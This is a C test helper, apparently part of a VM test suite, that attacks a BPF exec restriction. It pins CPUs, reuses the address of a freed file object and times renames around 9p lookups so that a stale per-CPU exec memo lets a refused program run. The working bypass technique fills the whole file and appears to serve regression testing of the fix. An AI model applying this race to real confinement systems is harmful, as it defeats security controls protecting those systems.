/* xmemo_atk S N [SLEEP_US]: the confined attacker of vm/t_bpf_exec_memo's
 * stale exec memo. S: a 9p share dir with a/F (an allowed program), b/
 * (F's refused home) and sub/ (an unpinned directory: its lookup sleeps in
 * a 9p RPC). Each try: (1) pinned to CPU 0, execve S/a/F while holding it
 * open for writing: the exec open is allowed and keeps an exec memo of its
 * struct file P, then deny_write_access fails (ETXTBSY) and P is freed;
 * (2) rename S/a/F -> S/b/F (the same dentry); (3) execve S/sub/../b/F: its
 * file is allocated on CPU 0 (P again), xmemo_watch moves the task to CPU 1
 * while the walk sleeps in the 9p lookup of sub (so the exec open runs on
 * CPU 1) and back to CPU 0 while it sleeps in 9p after the open (so
 * bprm_check runs on CPU 0). A memo kept per CPU was read there, stale, and
 * the refused program ran: it prints DENIED-EXEC-RAN. Exit 1 after N
 * refused tries, with a count of step 3's errors on stderr. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE   /* sched_setaffinity, CPU_SET */
#endif
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <time.h>

static void pin(int cpu)
{
	cpu_set_t s;
	CPU_ZERO(&s);
	CPU_SET(cpu, &s);
	if (sched_setaffinity(0, sizeof s, &s))
		perror("setaffinity");
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	const char *S = argv[1];
	int n = atoi(argv[2]);
	long rcu_us = argc > 3 ? atol(argv[3]) : 300000;
	char a[512], b[512], via[512], ad[512], bd[512], pidf[512];
	snprintf(a, sizeof a, "%s/a/F", S);
	snprintf(b, sizeof b, "%s/b/F", S);
	snprintf(via, sizeof via, "%s/sub/../b/F", S);
	snprintf(ad, sizeof ad, "%s/a", S);
	snprintf(bd, sizeof bd, "%s/b", S);
	pin(0);
	/* pins: F's dentry and its directories (9p cache=none drops an
	 * unreferenced dentry) */
	int pa = open(ad, O_PATH), pbd = open(bd, O_PATH), pf = open(a, O_RDONLY);
	if (pa < 0 || pbd < 0 || pf < 0) {
		perror("pins");
		return 2;
	}
	snprintf(pidf, sizeof pidf, "/tmp/atk.pid");
	FILE *f = fopen(pidf, "w");
	fprintf(f, "%d\n", getpid());
	fclose(f);
	char *av[] = { "F", "DENIED-EXEC-RAN", 0 };
	char *ev[] = { 0 };
	struct timespec rcu = { rcu_us / 1000000, (rcu_us % 1000000) * 1000 };
	int e1 = 0, e3[200] = { 0 };
	for (int i = 0; i < n; i++) {
		pin(0);
		int w = open(a, O_WRONLY);
		if (w < 0) {
			perror("open w");
			return 2;
		}
		execve(a, av, ev);
		if (errno == ETXTBSY)
			e1++;
		close(w);
		nanosleep(&rcu, 0);   /* P and then w freed (RCU) */
		int d = open("/dev/null", O_RDONLY);   /* takes w's address */
		if (rename(a, b)) {
			perror("rename");
			return 2;
		}
		nanosleep(&rcu, 0);
		fprintf(stderr, "atk: try %d\n", i + 1);
		execve(via, av, ev);
		if (errno < 200)
			e3[errno]++;
		rename(b, a);
		close(d);
	}
	fprintf(stderr, "atk: %d tries, step1 ETXTBSY %d, step3:", n, e1);
	for (int k = 0; k < 200; k++)
		if (e3[k])
			fprintf(stderr, " %s x%d", strerror(k), e3[k]);
	fprintf(stderr, "\n");
	return 1;
}
